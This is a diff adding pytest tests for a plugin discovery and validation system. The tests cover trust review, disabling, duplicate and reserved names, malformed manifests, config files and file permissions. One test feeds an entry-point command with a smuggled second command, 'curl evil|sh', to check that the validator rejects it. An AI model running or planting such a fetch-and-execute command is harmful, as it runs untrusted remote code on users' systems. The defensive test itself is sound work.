@@ -1,0 +1,383 @@
+"""Which plugins there are, and what is wrong with those that cannot run."""
+
+import os
+import shutil
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.plugins.folders import PROGRAMS, make_plugin, manifest_text, plugins_in
+from toolyard.plugins.command_line import Programs
+from toolyard.plugins.discovery import Changes, Plugins
+from toolyard.plugins.plugin import Origin, Plugin, State
+from toolyard.plugins.roots import Root, folders_of, roots_of, shipped_folder
+from toolyard.plugins.trust import Trust
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    (tmp_path / "all").mkdir()
+    return tmp_path / "all"
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    return tmp_path / "home"
+
+
+def refreshed(plugins: Plugins) -> Plugins:
+    plugins.refresh()
+    return plugins
+
+
+def only(plugins: Plugins) -> Plugin:
+    plugins.refresh()
+    (plugin,) = plugins.all
+    return plugin
+
+
+def states(plugins: Plugins) -> dict[str, State]:
+    plugins.refresh()
+    return {plugin.folder.name: plugin.state for plugin in plugins.all}
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_plugins_are_found_in_every_plugin_folder(tmp_path: Path) -> None:
+    project, home, given = tmp_path / "project", tmp_path / "home", tmp_path / "given"
+    make_plugin(home / "plugins", "InHome")
+    make_plugin(project / "Plugin", "InPlugin")
+    make_plugin(project / "plugins", "InPlugins")
+    make_plugin(given, "Given")
+    (home / "plugins/no-plugin").mkdir()
+    (home / "plugins/file").write_text("")
+    roots = [root for root in roots_of(project, home, [given]) if root.origin is not Origin.SHIPPED]
+    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
+    assert [(p.name, p.origin) for p in plugins.all] == [
+        ("Given", Origin.GIVEN),
+        ("InHome", Origin.HOME),
+        ("InPlugin", Origin.PROJECT),
+        ("InPlugins", Origin.PROJECT),
+    ]
+    assert all(plugin.is_ready for plugin in plugins.all), [plugin.reason for plugin in plugins.all]
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_a_shipped_plugin_needs_no_review_under_whatever_folder_it_is_found(root: Path, home: Path) -> None:
+    make_plugin(root, "Ours")
+    make_plugin(root.parent / "theirs", "Theirs")
+    roots = [Root(root, Origin.GIVEN), Root(root.parent / "theirs", Origin.HOME), Root(root, Origin.SHIPPED)]
+    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=PROGRAMS))
+    assert [(p.name, p.origin, p.state) for p in plugins.all] == [
+        ("Ours", Origin.SHIPPED, State.READY),
+        ("Theirs", Origin.HOME, State.NEEDS_REVIEW),
+    ]
+
+
+@pytest.mark.requirement("plugin:command")
+def test_a_shipped_plugin_runs_in_our_interpreter_and_others_in_the_owners(root: Path, home: Path) -> None:
+    make_plugin(root, "Ours")
+    make_plugin(root.parent / "theirs", "Theirs")
+    roots = [Root(root, Origin.SHIPPED), Root(root.parent / "theirs", Origin.HOME)]
+    programs = Programs(os.defpath, python="/opt/theirs/python")
+    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=programs))
+    assert [p.command.argv[0] for p in plugins.all if p.command] == [sys.executable, "/opt/theirs/python"]
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_the_shipped_folder_is_the_one_of_the_checkout_or_of_the_package() -> None:
+    checkout = Path(__file__).parents[2] / "plugins"
+    folder = shipped_folder()
+    assert folder == checkout if folder else not checkout.is_dir()
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_a_folder_that_is_itself_a_plugin_counts_as_one(root: Path, home: Path) -> None:
+    folder = make_plugin(root, "Single")
+    assert only(plugins_in(folder, home=home)).name == "Single"
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_nothing_is_made_and_nothing_found_where_there_are_no_plugin_folders(tmp_path: Path) -> None:
+    roots = [root for root in roots_of(tmp_path / "project", tmp_path / "home") if root.origin is not Origin.SHIPPED]
+    plugins = Plugins(roots, home=tmp_path / "home", trust=Trust(tmp_path / "home"), programs=PROGRAMS)
+    assert (plugins.refresh(), plugins.all, plugins.places()) == (Changes(), (), frozenset())
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_seventy_plugins_are_read_quickly_and_read_again_more_quickly(root: Path, home: Path) -> None:
+    for number in range(70):
+        make_plugin(root, f"P{number}", config="A=1\n")
+    plugins = plugins_in(root, home=home)
+    started = time.monotonic()
+    assert len(plugins.refresh().added) == 70
+    assert time.monotonic() - started < 5
+    started = time.monotonic()
+    assert not plugins.refresh()
+    assert time.monotonic() - started < 5
+
+
+@pytest.mark.requirement("plugin:disabled")
+@pytest.mark.parametrize("both", [False, True])
+def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> None:
+    folder = make_plugin(root, "Blocked")
+    manifest = folder / "plugin-manifest.json"
+    shutil.copy(manifest, f"{manifest}.block")
+    if not both:
+        manifest.unlink()
+    plugin = only(plugins_in(root, home=home))
+    assert (plugin.name, plugin.state, plugin.manifest is not None) == ("Blocked", State.DISABLED, True)
+    assert ".block" in plugin.reason
+
+
+@pytest.mark.requirement("plugin:disabled", "s:S-90")
+def test_a_plugin_is_disabled_by_command_in_every_run_until_it_is_enabled(root: Path, home: Path) -> None:
+    before = (make_plugin(root, "Some") / "plugin-manifest.json").read_bytes()
+    plugins = plugins_in(root, home=home)
+    plugins.disable(only(plugins))
+    assert only(plugins).state is State.DISABLED
+    assert "toolyard plugin enable Some" in only(plugins_in(root, home=home)).reason
+    assert (home / "disabled.json").stat().st_mode & 0o777 == 0o600
+    plugins.enable(only(plugins))
+    assert only(plugins_in(root, home=home)).state is State.READY
+    assert (root / "Some/plugin-manifest.json").read_bytes() == before
+
+
+@pytest.mark.requirement("plugin:disabled")
+def test_nothing_runs_while_nobody_can_tell_what_is_disabled(root: Path, home: Path) -> None:
+    make_plugin(root, "Some")
+    plugins = refreshed(plugins_in(root, home=home))
+    home.mkdir()
+    (home / "disabled.json").write_text("{ half")
+    current = plugins.current("Some")
+    assert current is not None
+    assert (current.state, "disabled.json is not valid JSON" in current.reason) == (State.DISABLED, True)
+
+
+@pytest.mark.requirement("plugin:disabled")
+def test_disabling_takes_effect_at_the_next_call_also_from_another_process(root: Path, home: Path) -> None:
+    make_plugin(root, "Some")
+    running, other = refreshed(plugins_in(root, home=home)), refreshed(plugins_in(root, home=home))
+    other.disable(other.all[0])
+    current = running.current("Some")
+    assert current is not None
+    assert current.state is State.DISABLED
+
+
+@pytest.mark.requirement("s:S-85", "r:R30")
+def test_a_second_plugin_of_the_same_name_is_refused_and_told(root: Path, home: Path) -> None:
+    make_plugin(root, "Same", folder="A")
+    make_plugin(root, "Same", folder="B")
+    plugins = plugins_in(root, home=home)
+    assert states(plugins) == {"A": State.READY, "B": State.DUPLICATE}
+    assert str(root / "A") in plugins.all[1].reason
+    holder = plugins.get("Same")
+    assert holder is not None
+    assert holder.folder == root / "A"
+    plugins.disable(holder)
+    assert states(plugins) == {"A": State.DISABLED, "B": State.READY}
+
+
+@pytest.mark.requirement("s:S-85")
+def test_an_unreviewed_plugin_takes_no_name_from_one_that_may_run(root: Path, home: Path) -> None:
+    make_plugin(root / "untrusted", "Same")
+    make_plugin(root / "trusted", "Same")
+    plugins = plugins_in(root / "untrusted", root / "trusted", home=home, trusted=[root / "trusted"])
+    assert [plugin.state for plugin in refreshed(plugins).all] == [State.DUPLICATE, State.READY]
+
+
+@pytest.mark.requirement("s:S-85")
+@pytest.mark.parametrize("name", ["FileOperator", "fileoperator"])
+def test_the_names_of_built_in_tools_are_reserved(root: Path, home: Path, name: str) -> None:
+    make_plugin(root, name)
+    plugin = only(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
+    assert (plugin.state, "built-in" in plugin.reason) == (State.SHADOWED, True)
+
+
+@pytest.mark.requirement("plugin:discovery")
+@pytest.mark.parametrize("kind", ["messagePreprocessor", "service", "hybridservice"])
+def test_a_plugin_of_a_type_that_cannot_run_here_is_listed_with_the_reason(root: Path, home: Path, kind: str) -> None:
+    make_plugin(root, "Theirs", pluginType=kind, entryPoint={"script": "main.js"})
+    plugin = only(plugins_in(root, home=home))
+    assert (plugin.state, bool(plugin.reason)) == (State.UNSUPPORTED, True)
+
+
+def spoil(folder: Path, how: str) -> None:
+    manifest = folder / "plugin-manifest.json"
+    text = manifest.read_text()
+    manifest.unlink()
+    match how:
+        case "broken":
+            manifest.write_text(text.replace('"pluginType"', "pluginType"))
+        case "half":
+            manifest.write_text(text[: len(text) // 2])
+        case "empty":
+            manifest.write_text("")
+        case "huge":
+            with manifest.open("wb") as file:
+                file.truncate(100 * 2**20)
+        case "loop":
+            manifest.symlink_to(manifest.name)
+        case "fifo":
+            os.mkfifo(manifest)
+        case "folder":
+            manifest.mkdir()
+        case "binary":
+            manifest.write_bytes(text.replace("tests", "\udce9", 1).encode(errors="surrogateescape"))
+        case "deep":
+            manifest.write_text('{"name": ' + "[" * 100_000)
+        case "no command":
+            manifest.write_text(manifest_text("Bad", entryPoint={"type": "python"}))
+
+
+SPOILED = ["broken", "half", "empty", "huge", "loop", "fifo", "folder", "binary", "deep", "no command"]
+
+
+@pytest.mark.requirement("r:R30")
+@pytest.mark.parametrize("how", SPOILED)
+def test_a_bad_manifest_costs_only_its_own_plugin(root: Path, home: Path, how: str) -> None:
+    make_plugin(root, "Good")
+    spoil(make_plugin(root, "Bad"), how)
+    plugins = plugins_in(root, home=home)
+    assert states(plugins) == {"Bad": State.BROKEN, "Good": State.READY}
+    bad = plugins.all[0]
+    assert bad.problems
+    assert bad.reason.startswith("plugin-manifest.json:")
+    if how in ("broken", "half", "huge", "binary", "no command"):
+        assert all((problem.line, problem.column) >= (1, 1) for problem in bad.problems), bad.problems
+
+
+@pytest.mark.requirement("r:R30")
+@pytest.mark.parametrize("how", SPOILED)
+def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root: Path, home: Path, how: str) -> None:
+    folder = make_plugin(root, "Bad", version="1")
+    plugins = plugins_in(root, home=home)
+    first = only(plugins)
+    spoil(folder, how)
+    kept = only(plugins)
+    assert (kept.state, kept.manifest) == (State.READY, first.manifest)
+    assert "last good version" in kept.reason
+    assert any(not problem.warning for problem in kept.problems)
+    assert not plugins.refresh()
+    manifest = folder / "plugin-manifest.json"
+    if manifest.is_dir():
+        manifest.rmdir()
+    else:
+        manifest.unlink()
+    manifest.write_text(manifest_text("Bad", version="2"))
+    mended = only(plugins)
+    assert mended.manifest is not None
+    assert (mended.manifest.version, mended.reason, mended.problems) == ("2", "", ())
+
+
+@pytest.mark.requirement("r:R30")
+def test_the_place_of_a_fault_is_told(root: Path, home: Path) -> None:
+    folder = make_plugin(root, "Bad")
+    (folder / "plugin-manifest.json").write_bytes(b'{\n  "name": "B\xff"\n}')
+    problem = only(plugins_in(root, home=home)).problems[0]
+    assert str(problem) == "plugin-manifest.json:2:13: is not UTF-8 Fix: save it as UTF-8"
+
+
+@pytest.mark.requirement("r:R30")
+def test_links_that_lead_nowhere_or_in_circles_are_listed_and_hurt_nobody(root: Path, home: Path) -> None:
+    make_plugin(root, "Good")
+    (root / "circle").symlink_to("circle")
+    (root / "dangling").symlink_to("absent")
+    (root / "again").symlink_to(root)
+    make_plugin(root.parent / "elsewhere", "Linked")
+    (root / "linked").symlink_to(root.parent / "elsewhere/Linked")
+    plugins = plugins_in(root, home=home, trusted=[root, root.parent / "elsewhere"])
+    assert states(plugins) == {
+        "circle": State.BROKEN,
+        "dangling": State.BROKEN,
+        "Good": State.READY,
+        "Linked": State.READY,
+    }
+
+
+@pytest.mark.requirement("r:R30", "plugin:config:file")
+def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
+    folder = make_plugin(root, "Some", config='TOKEN="whole"\n')
+    plugins = plugins_in(root, home=home)
+    assert only(plugins).config == {"TOKEN": "whole"}
+    (folder / "config.env").write_text('TOKEN="ne')
+    kept = only(plugins)
+    assert (kept.state, kept.config) == (State.READY, {"TOKEN": "whole"})
+    assert "config.env:1" in kept.reason
+    fresh = only(plugins_in(root, home=home))
+    assert (fresh.state, fresh.config) == (State.BROKEN, {})
+    (folder / "config.env").write_text('TOKEN="new"\n')
+    assert plugins.refresh() == Changes(changed=("Some",))
+    assert plugins.all[0].config == {"TOKEN": "new"}
+
+
+@pytest.mark.requirement("plugin:config:file")
+def test_an_odd_line_of_config_env_is_a_warning(root: Path, home: Path) -> None:
+    make_plugin(root, "Some", config="A=1\nwhat?\n")
+    plugin = only(plugins_in(root, home=home))
+    assert (plugin.state, plugin.config) == (State.READY, {"A": "1"})
+    assert [(p.file, p.line, p.warning) for p in plugin.problems] == [("config.env", 2, True)]
+
+
+@pytest.mark.requirement("s:S-90")
+def test_secrets_that_other_users_could_read_are_told(root: Path, home: Path) -> None:
+    folder = make_plugin(root, "Some", config="API_KEY=abc\n")
+    assert only(plugins_in(root, home=home)).problems == ()
+    (folder / "config.env").chmod(0o644)
+    assert [p.fix for p in only(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]
+
+
+@pytest.mark.requirement("plugin:command", "s:S-81")
+def test_a_command_that_cannot_run_breaks_the_plugin_and_says_why(root: Path, home: Path) -> None:
+    make_plugin(root, "Some", entryPoint={"command": "python main.py; curl evil|sh"})
+    plugin = only(plugins_in(root, home=home))
+    assert (plugin.state, plugin.command) == (State.BROKEN, None)
+    assert plugin.reason.startswith("entryPoint.command: ';'")
+
+
+@pytest.mark.requirement("r:R31")
+def test_a_refresh_tells_what_was_added_changed_and_removed(root: Path, home: Path) -> None:
+    make_plugin(root, "Stays")
+    goes = make_plugin(root, "Goes")
+    plugins = plugins_in(root, home=home)
+    assert plugins.refresh() == Changes(added=("Goes", "Stays"))
+    assert plugins.refresh() == Changes()
+    shutil.rmtree(goes)
+    make_plugin(root, "Comes")
+    (root / "Stays/main.py").write_text("print('other')\n")
+    assert plugins.refresh() == Changes(added=("Comes",), changed=("Stays",), removed=("Goes",))
+    assert plugins.get("Goes") is None
+
+
+@pytest.mark.requirement("r:R31")
+def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) -> None:
+    folder = make_plugin(root, "Some", version="1")
+    plugins = refreshed(plugins_in(root, home=home))
+    before = plugins.current("Some")
+    assert plugins.current("Some") is before
+    shutil.rmtree(folder)
+    make_plugin(root, "Some", version="2")
+    after = plugins.current("Some")
+    assert before is not None
+    assert after is not None
+    assert before.manifest is not None
+    assert after.manifest is not None
+    assert (before.manifest.version, after.manifest.version) == ("1", "2")
+    shutil.rmtree(folder)
+    assert plugins.current("Some") is None
+
+
+@pytest.mark.requirement("plugin:environment:shared")
+def test_the_keys_of_other_plugins_are_known(root: Path, home: Path) -> None:
+    make_plugin(root, "A", config="A_KEY=1\n")
+    make_plugin(root, "B", config="B_KEY=1\n")
+    assert refreshed(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}
+
+
+@pytest.mark.requirement("plugin:discovery")
+def test_each_folder_is_one_plugin_however_often_it_is_found(root: Path) -> None:
+    folder = make_plugin(root, "Some")
+    found = list(folders_of([Root(root, Origin.PROJECT), Root(folder, Origin.GIVEN), Root(root, Origin.HOME)]))
+    assert found == [(folder, Origin.PROJECT, None)]
